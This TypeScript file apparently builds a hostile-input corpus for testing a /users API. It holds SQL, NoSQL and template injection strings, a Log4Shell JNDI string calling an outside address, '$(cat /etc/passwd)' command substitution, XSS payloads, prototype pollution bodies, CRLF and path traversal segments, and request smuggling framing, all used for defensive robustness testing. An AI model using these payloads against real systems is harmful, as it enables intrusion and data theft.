/**
 * The hand-picked hostile inputs of suite 3: injection payloads, prototype pollution, oversized and deeply nested
 * bodies, invalid UTF-8, wrong content types, huge query strings, odd Unicode in path parameters, repeated and
 * conflicting headers, broken framing. Each is sent as it is, to both payload formats.
 */
import type { HostileRequest } from './http-client.js'

/** One input: how it is sent (`raw` writes its bytes on a socket, for what Node's client refuses to send). */
export interface CorpusEntry {
  readonly name: string
  readonly request: HostileRequest
  readonly transport: 'client' | 'raw'
}

const json: [string, string] = ['Content-Type', 'application/json']
const user = (email: string, name: string) => JSON.stringify({ email, name })
const megabyte = 1024 * 1024

/** `(%XX)*` for each UTF-8 byte of `text`, as a client percent-encodes a path segment. */
export function percentEncode(text: string | Buffer): string {
  const bytes = typeof text === 'string' ? Buffer.from(text, 'utf8') : text
  let out = ''
  for (const byte of bytes) {
    const char = String.fromCharCode(byte)
    out += /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`
  }
  return out
}

/** A JSON text nested `depth` levels deep: arrays, or objects under the key `a`. */
export function nested(depth: number, kind: 'array' | 'object', inner = '0'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`
}

/**
 * The corpus. `existingId` and `etag` name a user that exists, so that writes to it are tried for real;
 * `unknownId` a well-formed id that names nobody.
 */
export function hostileCorpus(existingId: string, etag: string, unknownId: string): CorpusEntry[] {
  const entries: CorpusEntry[] = []
  const add = (name: string, request: HostileRequest, transport: 'client' | 'raw' = 'client') =>
    entries.push({ name, request, transport })
  const post = (name: string, body: string | Buffer, headers: Array<[string, string]> = [json]) =>
    add(name, { method: 'POST', target: '/users', headers, body })
  const put = (name: string, body: string | Buffer, headers: Array<[string, string]> = [json]) =>
    add(name, { method: 'PUT', target: `/users/${existingId}`, headers: [...headers, ['If-Match', etag]], body })
  const get = (name: string, target: string, headers: Array<[string, string]> = []) =>
    add(name, { method: 'GET', target, headers })

  // SQL, NoSQL and template injection, in bodies, queries and paths.
  const injections = [
    "Robert'); DROP TABLE users;--",
    "' OR '1'='1",
    "admin'--",
    '1; SELECT * FROM users',
    "' UNION SELECT password FROM users--",
    "'; WAITFOR DELAY '0:0:5'--",
    '1 AND SLEEP(5)',
    `\${jndi:ldap://203.0.113.66:1389/a}`, // Log4Shell, sent literally
    '{{7*7}}',
    '<%= 7*7 %>',
    '$(cat /etc/passwd)',
    '`id`',
  ]
  for (const [index, payload] of injections.entries()) {
    post(`SQL/template payload ${index} as the name`, user(`sql${index}@example.com`, payload))
    get(`SQL/template payload ${index} in ?id=`, `/users?id=${percentEncode(payload)}`)
  }
  post('SQL payload as the email', user("' OR '1'='1'@example.com", 'x'))
  get('SQL payload as a path parameter', `/users/${percentEncode("1' OR '1'='1")}`)
  get('SQL payload in ?limit=', `/users?limit=${percentEncode('1;DROP TABLE users')}`)
  get('SQL payload in ?cursor=', `/users?cursor=${percentEncode("' OR 1=1--")}`)
  post('NoSQL operator as the email', JSON.stringify({ email: { $ne: null }, name: 'x' }))
  post('NoSQL operator as the name', JSON.stringify({ email: 'nosql@example.com', name: { $gt: '' } }))
  get('NoSQL operator in the query', `/users?id[$ne]=1`)
  const scripts = [
    '<script>alert(document.cookie)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '<svg/onload=alert(1)>',
    '</script><script>alert(1)</script>',
  ]
  for (const [index, payload] of scripts.entries()) {
    post(`script payload ${index} as the name`, user(`xss${index}@example.com`, payload))
    get(`script payload ${index} in the query`, `/users?limit=${percentEncode(payload)}`)
  }
  get('script payload as a path parameter', `/users/${percentEncode('<script>alert(1)</script>')}`)
  get('script payload in the User-Agent', '/users', [['User-Agent', '<script>alert(1)</script>']])
  put('script payload in a replace', user('xss-put@example.com', '<script>alert(1)</script>'))

  // Prototype pollution: bodies, queries, headers and paths naming __proto__, constructor and prototype.
  post('__proto__ body', '{"__proto__": {"polluted": "yes"}}')
  post('__proto__ beside a valid user', '{"email":"p1@example.com","name":"P","__proto__":{"isAdmin":true}}')
  post('constructor.prototype body', '{"constructor": {"prototype": {"polluted": "yes"}}}')
  post(
    'constructor.prototype beside a valid user',
    '{"email":"p2@example.com","name":"P","constructor":{"prototype":{"polluted":1}}}',
  )
  post('nested __proto__', '{"email":"p3@example.com","name":{"__proto__":{"polluted":1}}}')
  post('__proto__ as a JSON array member', '[{"__proto__":{"polluted":1}}]')
  post('prototype key', '{"email":"p4@example.com","name":"P","prototype":{"polluted":1}}')
  put('__proto__ in a replace', '{"email":"p5@example.com","name":"P","__proto__":{"polluted":1}}')
  get('__proto__[polluted] in the query', '/users?__proto__[polluted]=1')
  get('__proto__.polluted in the query', '/users?__proto__.polluted=1')
  get('constructor[prototype] in the query', '/users?constructor[prototype][polluted]=1')
  get('__proto__ as a query name', '/users?__proto__=1&constructor=2&prototype=3')
  get('hasOwnProperty and toString as query names', '/users?hasOwnProperty=1&toString=2&valueOf=3')
  get('__proto__ as a header name', '/users', [
    ['__proto__', 'polluted'],
    ['constructor', 'x'],
  ])
  get('__proto__ as the user id', '/users/__proto__')
  get('constructor as the user id', '/users/constructor')
  get('__proto__ as the path', '/__proto__/polluted')
  add('__proto__ with DELETE', { method: 'DELETE', target: '/users/__proto__', headers: [['If-Match', '*']] })

  // Sizes: the function's own 8 KiB limit, the event a Lambda takes (6 MB), API Gateway's 10 MB.
  post('9 KiB body', user('big@example.com', 'x'.repeat(9 * 1024)))
  post('1 MB body', user('big@example.com', 'x'.repeat(megabyte)))
  post('4 MB body', user('big@example.com', 'x'.repeat(4 * megabyte)))
  post('4 MB binary body', Buffer.alloc(4 * megabyte, 0xab), [['Content-Type', 'application/octet-stream']])
  post('10 MiB body', Buffer.alloc(10 * megabyte, 0x61), [json])
  post('10 MiB + 1 body', Buffer.alloc(10 * megabyte + 1, 0x61), [json])
  add(
    'a 20 MB Content-Length with a small body',
    {
      method: 'POST',
      target: '/users',
      headers: [json, ['Content-Length', String(20 * megabyte)]],
      body: '{}',
    },
    'raw',
  )

  // JSON nested 100,000 deep (over the body limit), and as deep as fits in it.
  post('arrays nested 100,000 deep', nested(100_000, 'array'))
  post('objects nested 100,000 deep', nested(100_000, 'object'))
  post('arrays nested 4,000 deep', nested(4000, 'array'))
  post('objects nested 1,600 deep', nested(1600, 'object'))
  post('a name nested 3,000 deep', `{"email":"deep@example.com","name":${nested(3000, 'array', '"x"')}}`)
  post('5,000 unclosed arrays', '['.repeat(5000))
  put('a replace nested 4,000 deep', nested(4000, 'array'))
  get('a query nested 1,000 deep', `/users?${'a['.repeat(1000)}=1`)

  // Invalid UTF-8 and odd strings in bodies.
  post(
    'invalid UTF-8 in the name',
    Buffer.concat([Buffer.from('{"email":"u@example.com","name":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
  )
  post(
    'overlong UTF-8 in the name',
    Buffer.concat([Buffer.from('{"email":"u@example.com","name":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]),
  )
  post(
    'a truncated UTF-8 sequence at the end',
    Buffer.concat([Buffer.from('{"email":"u@example.com","name":"a'), Buffer.from([0xe2, 0x82])]),
  )
  post('a lone surrogate escape in the name', '{"email":"u1@example.com","name":"\\ud800"}')
  post('a NUL in the name', '{"email":"u2@example.com","name":"a\\u0000b"}')
  post('a right-to-left override in the name', user('u3@example.com', 'abc\u202Edef'))
  post('a byte-order mark before the JSON', `\uFEFF${user('u4@example.com', 'bom')}`)
  post('UTF-16 JSON', Buffer.from(user('u5@example.com', 'utf16'), 'utf16le'), [
    ['Content-Type', 'application/json; charset=utf-16'],
  ])
  post('only whitespace', '   \n\t  ')
  post('an empty body', '')
  post('the JSON literal null', 'null')
  post('a JSON string', '"a string"')
  post('a huge number', '1e999999')
  post('duplicate keys', '{"email":"dup@example.com","email":"dup2@example.com","name":"d","name":"e"}')

  // Wrong and missing content types, with a valid user as the body.
  const valid = user('ct@example.com', 'Content Type')
  for (const type of [
    'text/plain',
    'application/xml',
    'multipart/form-data; boundary=x',
    'application/x-www-form-urlencoded',
    'application/json; charset=latin1',
    'APPLICATION/JSON',
    'application/vnd.api+json',
    'application/jsonx',
    'application/json, text/html',
    '',
    `application/json; ${'p=1; '.repeat(500)}`,
  ]) {
    post(`content type "${type.slice(0, 40)}"`, valid, [['Content-Type', type]])
  }
  post('no content type', valid, [])
  post('form-encoded user', 'email=form%40example.com&name=Form', [
    ['Content-Type', 'application/x-www-form-urlencoded'],
  ])

  // Huge query strings.
  get('1,000 query parameters', `/users?${Array.from({ length: 1000 }, (_, i) => `p${i}=${i}`).join('&')}`)
  get('one 12 KB query value', `/users?limit=${'9'.repeat(12_000)}`)
  get('a 12 KB cursor', `/users?cursor=${'A'.repeat(12_000)}`)
  get('100 KB query string', `/users?x=${'a'.repeat(100_000)}`)
  get('10,000 ampersands', `/users?${'&'.repeat(10_000)}`)
  get('the same parameter 500 times', `/users?${'limit=5&'.repeat(500)}`)
  get('id and limit together', `/users?id=${existingId}&limit=5`)
  get('percent-encoded invalid UTF-8 in the query', '/users?id=%FF%FE&limit=%C0%AF')
  get('a malformed percent escape in the query', '/users?limit=%ZZ&cursor=%')

  // Odd Unicode (and worse) in path parameters.
  for (const [label, segment] of [
    ['an emoji', '💩'],
    ['a right-to-left override', '\u202E'],
    ['a byte-order mark before an id', `\uFEFF${existingId}`],
    ['a zero-width space after an id', `${existingId}\u200B`],
    ['full-width digits', '１２３４５６７８-１２３４'],
    ['a Cyrillic а in an id', existingId.replace(/a/, 'а')],
    ['combining marks', 'a\u0301\u0302\u0303\u0304\u0305'],
    ['a NUL', '\u0000'],
    ['an upper-case id', existingId.toUpperCase()],
    ['an id with a trailing newline', `${existingId}\n`],
    ['CRLF and a header', '\r\nSet-Cookie: x=1'],
    ['dot segments', '../../etc/passwd'],
  ] as const) {
    get(`${label} as the user id`, `/users/${percentEncode(segment)}`)
  }
  get('an overlong encoded slash as the user id', '/users/%C0%AF')
  get('an encoded lone surrogate as the user id', '/users/%ED%A0%80')
  get('percent-encoded invalid UTF-8 as the user id', '/users/%FF%FE')
  get('a double-encoded traversal', '/users/%252e%252e%252f')
  get('a 5,000-character user id', `/users/${'x'.repeat(5000)}`)
  get('an empty user id', '/users//')
  get('a leading double slash', '//users')
  get('a matrix parameter', `/users;jsessionid=1/${existingId}`)
  get('a path under a user', `/users/${existingId}/extra`)
  get('upper-case resource', '/USERS')
  add('raw non-ASCII bytes in the path', { method: 'GET', target: '/users/\xff\xfe', headers: [] }, 'raw')
  add('a space in the path', { method: 'GET', target: '/users/a b', headers: [] }, 'raw')
  add(
    'an absolute-form target',
    { method: 'GET', target: `http://evil.example/users/${existingId}`, headers: [] },
    'raw',
  )
  add('an asterisk target', { method: 'OPTIONS', target: '*', headers: [] }, 'raw')

  // Repeated and conflicting headers.
  post('two content types', valid, [json, ['Content-Type', 'text/plain']])
  post('two content types, text first', valid, [['Content-Type', 'text/plain'], json])
  put('two If-Match headers', user('im@example.com', 'If-Match'), [json, ['If-Match', '"999"']])
  put('If-Match and if-match', user('im2@example.com', 'If-Match'), [json, ['if-match', '*']])
  add('DELETE with two If-Match headers', {
    method: 'DELETE',
    target: `/users/${unknownId}`,
    headers: [
      ['If-Match', '*'],
      ['If-Match', '"1"'],
    ],
  })
  add('a malformed If-Match', {
    method: 'PUT',
    target: `/users/${existingId}`,
    headers: [json, ['If-Match', `"${'9'.repeat(400)}`]],
    body: valid,
  })
  get('two Host headers', '/users', [
    ['Host', 'a.example'],
    ['Host', 'b.example'],
  ])
  add(
    'two different Content-Length headers',
    {
      method: 'POST',
      target: '/users',
      headers: [json, ['Content-Length', '2'], ['Content-Length', '30']],
      body: '{}',
    },
    'raw',
  )
  add(
    'Transfer-Encoding and Content-Length together',
    {
      method: 'POST',
      target: '/users',
      headers: [json, ['Transfer-Encoding', 'chunked'], ['Content-Length', '2']],
      body: '2\r\n{}\r\n0\r\n\r\n',
    },
    'raw',
  )
  get(
    '200 copies of one header',
    '/users',
    Array.from({ length: 200 }, () => ['X-Repeat', 'x'] as [string, string]),
  )
  get('an 8 KB header value', '/users', [['X-Big', 'v'.repeat(8000)]])
  get('a 20 KB header value', '/users', [['X-Huge', 'v'.repeat(20_000)]])
  get('two Cookie headers', '/users', [
    ['Cookie', 'a=1'],
    ['Cookie', 'b=2; __proto__=3'],
  ])
  add(
    'a header value with raw non-UTF-8 bytes',
    { method: 'GET', target: '/users', headers: [['X-Bytes', '\xff\xfe\xc0']] },
    'raw',
  )

  // Methods and protocol oddities.
  for (const method of ['PATCH', 'TRACE', 'OPTIONS', 'HEAD', 'PROPFIND']) {
    add(`${method} on a user`, { method, target: `/users/${existingId}`, headers: [json], body: valid })
  }
  add('a lower-case method', { method: 'get', target: '/users', headers: [] }, 'raw')
  add('an unknown method', { method: 'FOO', target: '/users', headers: [] }, 'raw')
  add('a request line with extra spaces', { method: 'GET ', target: ' /users', headers: [] }, 'raw')
  return entries
}
